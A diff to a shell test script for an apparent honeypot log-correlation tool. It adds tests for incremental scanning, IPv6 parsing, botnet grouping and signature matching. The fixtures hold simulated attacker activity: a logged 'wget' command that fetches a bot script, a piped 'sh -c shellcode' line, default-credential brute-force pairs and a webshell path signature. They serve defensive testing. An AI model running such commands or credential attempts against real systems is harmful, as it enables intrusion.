@@ -57,6 +57,8 @@ rm -f services/cowrie/logs/*.log
 rm -f services/fake-router-web/logs/*.log
 rm -f services/fake-camera-web/logs/*.log
 rm -f services/rtsp/logs/*.log
+# Start from a clean read position so earlier runs don't hide test lines
+rm -f build/quorum-cursors.state build/quorum-state.bin
 pass "Test log directories created and cleaned"
 
 # Test 3: Quorum engine runs without errors (no logs)
@@ -176,13 +178,248 @@ else
     cat /tmp/quorum_test_output5.txt
 fi
 
+# Test 11: Incremental scan only parses lines appended since the last run
+echo "Test 11: Test incremental scanning of appended lines"
+echo "[$(date '+%Y-%m-%d %H:%M:%S')] Connection from 172.16.5.5" >> services/cowrie/logs/cowrie.log
+./build/quorum > /tmp/quorum_test_output6.txt 2>&1
+if grep -q "Found 1 IP(s) in cowrie logs" /tmp/quorum_test_output6.txt && \
+   ! grep -q "IP(s) in router-web logs" /tmp/quorum_test_output6.txt; then
+    pass "Only the appended line was parsed"
+else
+    fail "Incremental scan reparsed old log lines"
+    cat /tmp/quorum_test_output6.txt
+fi
+./build/quorum --full-rescan > /tmp/quorum_test_output7.txt 2>&1
+if grep -q "Found 5 IP(s) in cowrie logs" /tmp/quorum_test_output7.txt; then
+    pass "Full rescan still reads the whole log"
+else
+    fail "Full rescan did not read the whole log"
+    cat /tmp/quorum_test_output7.txt
+fi
+
+# Test 12: Follow mode picks up new lines without restarting
+echo "Test 12: Test follow mode"
+./build/quorum --follow > /tmp/quorum_test_output8.txt 2>&1 &
+FOLLOW_PID=$!
+sleep 1
+echo "[$(date '+%Y-%m-%d %H:%M:%S')] Connection from 10.9.8.7" >> services/cowrie/logs/cowrie.log
+echo "$(date '+%Y-%m-%d %H:%M:%S') - Router access from 10.9.8.7" >> services/fake-router-web/logs/access.log
+sleep 1
+kill -TERM $FOLLOW_PID 2>/dev/null
+wait $FOLLOW_PID 2>/dev/null
+if grep -q "IP: 10.9.8.7" /tmp/quorum_test_output8.txt; then
+    pass "Follow mode detected the new coordinated attack"
+else
+    fail "Follow mode missed the new coordinated attack"
+    cat /tmp/quorum_test_output8.txt
+fi
+
+# Test 13: Tracking table grows past the old fixed limit and evicts at capacity
+echo "Test 13: Test IP tracking table capacity"
+rm -f services/fake-router-web/logs/*.log services/fake-camera-web/logs/*.log
+awk 'BEGIN { for (i = 0; i < 1500; i++) printf "[2024-01-01 00:00:00] Connection from 10.%d.%d.1\n", int(i / 256), i % 256 }' > services/cowrie/logs/cowrie.log
+./build/quorum --full-rescan > /tmp/quorum_test_output9.txt 2>&1
+if grep -q "Total unique IPs tracked: 1500$" /tmp/quorum_test_output9.txt; then
+    pass "Tracked 1500 unique IPs"
+else
+    fail "Did not track all 1500 unique IPs"
+    tail -5 /tmp/quorum_test_output9.txt
+fi
+./build/quorum --full-rescan --max-ips 100 > /tmp/quorum_test_output10.txt 2>&1
+if grep -q "Total unique IPs tracked: 100$" /tmp/quorum_test_output10.txt && \
+   grep -q "evicted 1400 least recently seen" /tmp/quorum_test_output10.txt; then
+    pass "Full table evicts least recently seen IPs"
+else
+    fail "Capacity limit not enforced"
+    tail -5 /tmp/quorum_test_output10.txt
+fi
+
+# Test 14: IPv6 sources and addresses at the end of a sentence
+echo "Test 14: Test IPv6 and punctuation-adjacent addresses"
+echo "[$(date '+%Y-%m-%d %H:%M:%S')] New connection: [2001:db8::5]:4022 (172.17.0.2:2222)" > services/cowrie/logs/cowrie.log
+echo "$(date '+%Y-%m-%d %H:%M:%S') - Router access from 2001:db8::5." > services/fake-router-web/logs/access.log
+echo "$(date '+%Y-%m-%d %H:%M:%S') - Camera login failed for 10.20.30.40." > services/fake-camera-web/logs/access.log
+echo "[$(date '+%Y-%m-%d %H:%M:%S')] Connection from 10.20.30.40" >> services/cowrie/logs/cowrie.log
+./build/quorum --full-rescan > /tmp/quorum_test_output11.txt 2>&1
+if grep -q "IP: 2001:db8::5" /tmp/quorum_test_output11.txt && \
+   grep -q "IP: 10.20.30.40" /tmp/quorum_test_output11.txt && \
+   ! grep -q "IP: 172.17.0.2" /tmp/quorum_test_output11.txt; then
+    pass "IPv6 and trailing-period addresses correlated"
+else
+    fail "IPv6 or trailing-period address not correlated"
+    cat /tmp/quorum_test_output11.txt
+fi
+
+# Test 15: Structured cowrie.json events are preferred over the text log
+echo "Test 15: Test cowrie.json ingestion"
+rm -f services/cowrie/logs/*.log
+cat > services/cowrie/logs/cowrie.json << 'EOF'
+{"eventid":"cowrie.session.connect","src_ip":"198.51.100.7","src_port":40122,"dst_ip":"172.17.0.2","session":"a1b2c3d4","timestamp":"2024-03-12T08:15:02.123456Z"}
+{"eventid":"cowrie.login.failed","username":"root","password":"admin","src_ip":"198.51.100.7","session":"a1b2c3d4","timestamp":"2024-03-12T08:15:04.000000Z"}
+{"eventid":"cowrie.login.failed","username":"root","password":"12345","src_ip":"198.51.100.7","session":"a1b2c3d4","timestamp":"2024-03-12T08:15:05.000000Z"}
+{"eventid":"cowrie.command.input","input":"wget http://203.0.113.9/bot.sh; echo \"done\"","src_ip":"198.51.100.7","session":"a1b2c3d4","timestamp":"2024-03-12T08:15:09.000000Z"}
+EOF
+echo "$(date '+%Y-%m-%d %H:%M:%S') - Router access from 198.51.100.7" > services/fake-router-web/logs/access.log
+echo "$(date '+%Y-%m-%d %H:%M:%S') - Camera access from 203.0.113.9" > services/fake-camera-web/logs/access.log
+./build/quorum --full-rescan > /tmp/quorum_test_output12.txt 2>&1
+if grep -q "IP: 198.51.100.7" /tmp/quorum_test_output12.txt && \
+   grep -q "Login attempts: 2 (2 failed)" /tmp/quorum_test_output12.txt && \
+   ! grep -q "IP: 203.0.113.9" /tmp/quorum_test_output12.txt; then
+    pass "cowrie.json events correlated without payload false positives"
+else
+    fail "cowrie.json ingestion incorrect"
+    cat /tmp/quorum_test_output12.txt
+fi
+
+# Test 16: Parallel scan produces exactly the single-threaded results
+echo "Test 16: Test multi-threaded log scanning"
+rm -f services/cowrie/logs/*.json
+awk 'BEGIN { srand(7); for (i = 0; i < 20000; i++) printf "[2024-01-01 00:00:00] Connection from 10.%d.%d.%d port 22\n", int(rand() * 3), int(rand() * 40), int(rand() * 250) }' > services/cowrie/logs/cowrie.log
+awk 'BEGIN { srand(8); for (i = 0; i < 10000; i++) printf "2024-01-01 00:00:00 - Router access from 10.%d.%d.%d\n", int(rand() * 3), int(rand() * 40), int(rand() * 250) }' > services/fake-router-web/logs/access.log
+awk 'BEGIN { srand(9); for (i = 0; i < 10000; i++) printf "2024-01-01 00:00:00 - Camera access from 10.%d.%d.%d\n", int(rand() * 3), int(rand() * 40), int(rand() * 250) }' > services/fake-camera-web/logs/access.log
+./build/quorum --full-rescan --threads 1 > /tmp/quorum_test_output13.txt 2>&1
+./build/quorum --full-rescan --threads 4 > /tmp/quorum_test_output14.txt 2>&1
+grep -E "^  (IP|Services hit|Total hits):|Total unique" /tmp/quorum_test_output13.txt | sed 's/^\[[^]]*\] //' > /tmp/quorum_alerts_t1.txt
+grep -E "^  (IP|Services hit|Total hits):|Total unique" /tmp/quorum_test_output14.txt | sed 's/^\[[^]]*\] //' > /tmp/quorum_alerts_t4.txt
+if [ -s /tmp/quorum_alerts_t1.txt ] && cmp -s /tmp/quorum_alerts_t1.txt /tmp/quorum_alerts_t4.txt; then
+    pass "4-thread scan matches single-threaded alerts"
+else
+    fail "Multi-threaded scan differs from single-threaded scan"
+    diff /tmp/quorum_alerts_t1.txt /tmp/quorum_alerts_t4.txt | head -20
+fi
+rm -f /tmp/quorum_alerts_t1.txt /tmp/quorum_alerts_t4.txt
+
+# Test 17: Lines longer than MAX_LOG_LINE are read as one line
+echo "Test 17: Test lines longer than 2048 bytes"
+rm -f services/cowrie/logs/*.log
+LONG_PAYLOAD=$(head -c 5000 /dev/zero | tr '\0' 'A')
+echo "{\"eventid\":\"cowrie.command.input\",\"input\":\"echo $LONG_PAYLOAD | sh -c shellcode\",\"src_ip\":\"198.51.100.20\",\"session\":\"e5f6a7b8\",\"timestamp\":\"2024-03-12T09:00:00.000000Z\"}" > services/cowrie/logs/cowrie.json
+echo "$(date '+%Y-%m-%d %H:%M:%S') - Router access from 198.51.100.20" > services/fake-router-web/logs/access.log
+echo "$(date '+%Y-%m-%d %H:%M:%S') - Router access from 192.0.2.99" >> services/fake-router-web/logs/access.log
+echo "$(date '+%Y-%m-%d %H:%M:%S') - Camera access from 203.0.113.50 ua=$LONG_PAYLOAD via 192.0.2.99" > services/fake-camera-web/logs/access.log
+./build/quorum --full-rescan > /tmp/quorum_test_output15.txt 2>&1
+if grep -q "IP: 198.51.100.20" /tmp/quorum_test_output15.txt && \
+   ! grep -q "IP: 192.0.2.99" /tmp/quorum_test_output15.txt && \
+   grep -q "Patterns: .*exploitation" /tmp/quorum_test_output15.txt; then
+    pass "Long lines parsed whole, without split-off fragments or a cut-off command"
+else
+    fail "Long lines were split into bogus extra lines, or the command was cut off"
+    grep -E "IP:|Found" /tmp/quorum_test_output15.txt
+fi
+
+# Test 18: Sliding windows use the timestamps in the logs, not the scan time
+echo
+echo "Test 18: Test sliding-window detection on event timestamps"
+rm -f services/cowrie/logs/*.log services/cowrie/logs/*.json services/fake-camera-web/logs/*.log
+echo "[2024-01-01 00:00:00] New connection: 198.51.100.30:4000" > services/cowrie/logs/cowrie.log
+echo "[2024-01-01 00:00:00] New connection: 198.51.100.31:4000" >> services/cowrie/logs/cowrie.log
+echo "2024-01-01 00:03:00 - Router access from 198.51.100.30" > services/fake-router-web/logs/access.log
+echo "2024-01-01 02:00:00 - Router access from 198.51.100.31" >> services/fake-router-web/logs/access.log
+./build/quorum --full-rescan --window 5m > /tmp/quorum_test_output16.txt 2>&1
+./build/quorum --full-rescan --window 5m,3h > /tmp/quorum_test_output17.txt 2>&1
+if grep -q "IP: 198.51.100.30" /tmp/quorum_test_output16.txt && \
+   ! grep -q "IP: 198.51.100.31" /tmp/quorum_test_output16.txt && \
+   grep -A3 "IP: 198.51.100.31" /tmp/quorum_test_output17.txt | grep -q "Window: 3h"; then
+    pass "Hits are grouped by event time into the configured windows"
+else
+    fail "Sliding-window detection did not follow event timestamps"
+    grep -E "IP:|Window" /tmp/quorum_test_output16.txt /tmp/quorum_test_output17.txt
+fi
+
+if ./build/quorum --window 5x > /dev/null 2>&1; [ $? -eq 2 ]; then
+    pass "Malformed window list is rejected"
+else
+    fail "Malformed window list was accepted"
+fi
+
+# Test 19: A botnet wave sharing one credential list is found as one group
+echo
+echo "Test 19: Test coordination across a large botnet wave"
+rm -f services/cowrie/logs/*.log services/fake-router-web/logs/*.log services/fake-camera-web/logs/*.log
+awk 'BEGIN {
+    for (i = 0; i < 3000; i++) {
+        ip = sprintf("10.20.%d.%d", int(i / 250), i % 250 + 1)
+        split("root:admin root:12345 admin:admin", creds, " ")
+        # Each bot works through the list from a different starting point
+        for (c = 1; c <= 3; c++) {
+            split(creds[(c + i) % 3 + 1], pair, ":")
+            printf "{\"eventid\":\"cowrie.login.failed\",\"username\":\"%s\",\"password\":\"%s\",\"src_ip\":\"%s\",\"timestamp\":\"2024-03-12T08:%02d:%02d.000000Z\"}\n", pair[1], pair[2], ip, int(i / 1000), i % 60
+        }
+    }
+    printf "{\"eventid\":\"cowrie.login.failed\",\"username\":\"pi\",\"password\":\"raspberry\",\"src_ip\":\"192.0.2.77\",\"timestamp\":\"2024-03-12T11:00:00.000000Z\"}\n"
+}' > services/cowrie/logs/cowrie.json
+./build/quorum --full-rescan > /tmp/quorum_test_output18.txt 2>&1
+if grep -q "Coordinated attack detected: 3000 sources" /tmp/quorum_test_output18.txt && \
+   grep -q "3001 profiled attacker(s), 1500 coordinated pair(s)" /tmp/quorum_test_output18.txt; then
+    pass "Botnet wave grouped without pairwise comparison or a 100-profile cap"
+else
+    fail "Botnet wave not grouped correctly"
+    grep -E "Coordinated|Threat level" /tmp/quorum_test_output18.txt
+fi
+
+# Test 20: The state snapshot carries history across restarts
+echo
+echo "Test 20: Test state snapshot warm restart"
+rm -f services/cowrie/logs/*.json services/cowrie/logs/*.log services/fake-router-web/logs/*.log
+rm -f build/quorum-cursors.state build/quorum-state.bin
+echo "[$(date '+%Y-%m-%d %H:%M:%S')] Connection from 198.51.100.40" > services/cowrie/logs/cowrie.log
+./build/quorum > /dev/null 2>&1
+echo "$(date '+%Y-%m-%d %H:%M:%S') - Router access from 198.51.100.40" > services/fake-router-web/logs/access.log
+./build/quorum > /tmp/quorum_test_output19.txt 2>&1
+./build/quorum > /tmp/quorum_test_output20.txt 2>&1
+if [ -s build/quorum-state.bin ] && grep -q "Restored 1 tracked IP" /tmp/quorum_test_output19.txt && \
+   grep -q "IP: 198.51.100.40" /tmp/quorum_test_output19.txt && \
+   ! grep -q "IP: 198.51.100.40" /tmp/quorum_test_output20.txt; then
+    pass "Hits from before the restart are correlated and not re-alerted"
+else
+    fail "State snapshot did not carry tracking across restarts"
+    cat /tmp/quorum_test_output19.txt /tmp/quorum_test_output20.txt
+fi
+
+head -c 100 build/quorum-state.bin > build/quorum-state.bin.cut && mv build/quorum-state.bin.cut build/quorum-state.bin
+./build/quorum > /tmp/quorum_test_output21.txt 2>&1
+if grep -q "Ignoring quorum state snapshot" /tmp/quorum_test_output21.txt && \
+   grep -q "rescanning logs from the start" /tmp/quorum_test_output21.txt && \
+   grep -q "IP: 198.51.100.40" /tmp/quorum_test_output21.txt; then
+    pass "Damaged snapshot is ignored and the logs are rescanned"
+else
+    fail "Damaged snapshot was not handled"
+    cat /tmp/quorum_test_output21.txt
+fi
+
+# Test 21: Lines are classified against the attack signatures
+echo
+echo "Test 21: Test attack signature classification"
+rm -f services/cowrie/logs/*.log services/cowrie/logs/*.json services/fake-router-web/logs/*.log
+echo "[$(date '+%Y-%m-%d %H:%M:%S')] Failed password for root from 203.0.113.60 port 4000 ssh2" > services/cowrie/logs/cowrie.log
+echo "$(date '+%Y-%m-%d %H:%M:%S') - Router access from 203.0.113.60 GET /cmd.php (Nmap Scripting Engine)" > services/fake-router-web/logs/access.log
+./build/quorum --full-rescan > /tmp/quorum_test_output22.txt 2>&1
+# Many long pattern names must reach the alert whole, not cut at a buffer size
+LONG_NAME=$(printf 'scanner%.0s' $(seq 1 8))
+echo "webshell|7|/cmd.php" > /tmp/quorum_test_signatures.conf
+EXPECTED="webshell"
+for n in 1 2 3 4 5 6; do
+    echo "${LONG_NAME}_$n|3|Nmap Scripting Engine" >> /tmp/quorum_test_signatures.conf
+    EXPECTED="$EXPECTED, ${LONG_NAME}_$n"
+done
+./build/quorum --full-rescan --signatures /tmp/quorum_test_signatures.conf > /tmp/quorum_test_output23.txt 2>&1
+if grep -q "Patterns: brute_force, reconnaissance" /tmp/quorum_test_output22.txt && \
+   grep -q "Patterns: $EXPECTED$" /tmp/quorum_test_output23.txt; then
+    pass "Log lines matched against built-in and file-loaded signatures"
+else
+    fail "Signature classification incorrect"
+    grep -E "IP:|Patterns" /tmp/quorum_test_output22.txt /tmp/quorum_test_output23.txt
+fi
+rm -f /tmp/quorum_test_signatures.conf
+
 # Cleanup test logs
 echo
-echo "Test 11: Cleanup test logs"
-rm -f services/cowrie/logs/*.log
+echo "Test 22: Cleanup test logs"
+rm -f services/cowrie/logs/*.log services/cowrie/logs/*.json
 rm -f services/fake-router-web/logs/*.log
 rm -f services/fake-camera-web/logs/*.log
 rm -f services/rtsp/logs/*.log
+rm -f build/quorum-cursors.state build/quorum-state.bin
 pass "Test logs cleaned up"
 
 # Summary